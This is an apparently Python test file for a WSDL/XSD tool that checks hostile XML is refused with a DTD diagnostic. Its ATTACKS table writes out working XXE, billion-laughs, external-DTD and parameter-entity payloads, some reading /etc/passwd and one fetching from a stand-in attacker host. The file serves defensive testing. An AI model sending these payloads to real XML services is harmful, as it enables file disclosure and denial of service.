"""Hostile XML is refused with a diagnostic: DTDs (XXE, billion laughs, external
DTDs, parameter entities), malformed and absurdly deep documents. Nothing is
read from the disk or the network beyond the files named."""

from __future__ import annotations

from wsdl_support import errors_of, idlgen

WSDL_NS = 'xmlns="http://schemas.xmlsoap.org/wsdl/" targetNamespace="urn:x"'

ATTACKS = {
    "xxe": f"""<?xml version="1.0"?>
<!DOCTYPE definitions [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<definitions {WSDL_NS}><documentation>&xxe;</documentation></definitions>
""",
    "billion_laughs": """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<definitions xmlns="http://schemas.xmlsoap.org/wsdl/"><documentation>&lol9;</documentation></definitions>
""",
    "external_dtd": f"""<?xml version="1.0"?>
<!-- a comment first -->
<!DOCTYPE definitions SYSTEM "http://attacker.invalid/evil.dtd">
<definitions {WSDL_NS}/>
""",
    "parameter_entity": f"""<?xml version="1.0"?>
<!DOCTYPE definitions [ <!ENTITY % p SYSTEM "file:///etc/passwd"> %p; ]>
<definitions {WSDL_NS}/>
""",
}


def test_each_attack_is_refused_at_its_doctype(tmp_path):
    for name, text in ATTACKS.items():
        path = tmp_path / f"{name}.wsdl"
        path.write_text(text)
        (error,) = errors_of(path)
        assert error.code == "xml-dtd", name
        assert "DTD" in error.message and "not allowed" in error.message
        expected_line = 3 if name == "external_dtd" else 2
        assert (error.loc.file, error.loc.line) == (str(path), expected_line), name


def test_utf16_doctype_is_refused_too(tmp_path):
    path = tmp_path / "u16.xsd"
    text = ATTACKS["xxe"].replace(
        '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>'
    )
    path.write_bytes(text.encode("utf-16"))
    (error,) = errors_of(path)
    assert error.code == "xml-dtd"


def test_attack_in_an_imported_schema(tmp_path):
    (tmp_path / "evil.xsd").write_text(
        ATTACKS["xxe"]
        .replace("definitions", "xs:schema")
        .replace(WSDL_NS, 'xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:e"')
        .replace("<documentation>&xxe;</documentation>", "")
    )
    main = tmp_path / "main.xsd"
    main.write_text(
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:m">\n'
        '  <xs:import namespace="urn:e" schemaLocation="evil.xsd"/>\n</xs:schema>\n'
    )
    (error,) = errors_of(main)
    assert error.code == "xml-dtd" and error.loc.file.endswith("evil.xsd")


def test_malformed_xml_is_a_diagnostic(tmp_path):
    path = tmp_path / "bad.wsdl"
    path.write_text(f"<definitions {WSDL_NS}>\n  <types>\n</definitions>\n")
    (error,) = errors_of(path)
    assert error.code == "xml-syntax" and error.loc.line == 3
    assert "mismatch" in error.message


def test_absurd_depth_is_a_diagnostic(tmp_path):
    path = tmp_path / "deep.xsd"
    path.write_text(
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
        + "<a>" * 100_000
        + "</a>" * 100_000
        + "</xs:schema>"
    )
    (error,) = errors_of(path)
    assert error.code == "xml-syntax"


def test_cli_prints_no_traceback(tmp_path):
    path = tmp_path / "xxe.wsdl"
    path.write_text(ATTACKS["xxe"])
    proc = idlgen("--check", str(path))
    assert proc.returncode == 1
    assert f"{path}:2:1: error: a DTD (<!DOCTYPE>) is not allowed" in proc.stderr
    assert "Traceback" not in proc.stderr and "root:" not in proc.stdout


def test_standard_schema_with_a_dtd_is_replaced_by_the_bundled_one(tmp_path):
    """W3C's xmldsig-core-schema.xsd declares a DTD: refused, idlgen's own copy read instead."""
    (tmp_path / "xmldsig-core-schema.xsd").write_text(
        '<?xml version="1.0"?>\n'
        '<!DOCTYPE schema [ <!ENTITY dsig "http://www.w3.org/2000/09/xmldsig#"> ]>\n'
        '<schema xmlns="http://www.w3.org/2001/XMLSchema" targetNamespace="&dsig;"/>\n'
    )
    main = tmp_path / "main.xsd"
    main.write_text(
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:m"\n'
        '           xmlns:ds="http://www.w3.org/2000/09/xmldsig#">\n'
        '  <xs:import namespace="http://www.w3.org/2000/09/xmldsig#"'
        ' schemaLocation="xmldsig-core-schema.xsd"/>\n'
        '  <xs:element name="signed"><xs:complexType><xs:sequence>'
        '<xs:element ref="ds:Signature"/></xs:sequence></xs:complexType></xs:element>\n'
        "</xs:schema>\n"
    )
    proc = idlgen("--check", str(main))
    assert proc.returncode == 0, proc.stderr
    assert "main.xsd:3:" in proc.stderr and "declares a DTD, which idlgen refuses" in proc.stderr
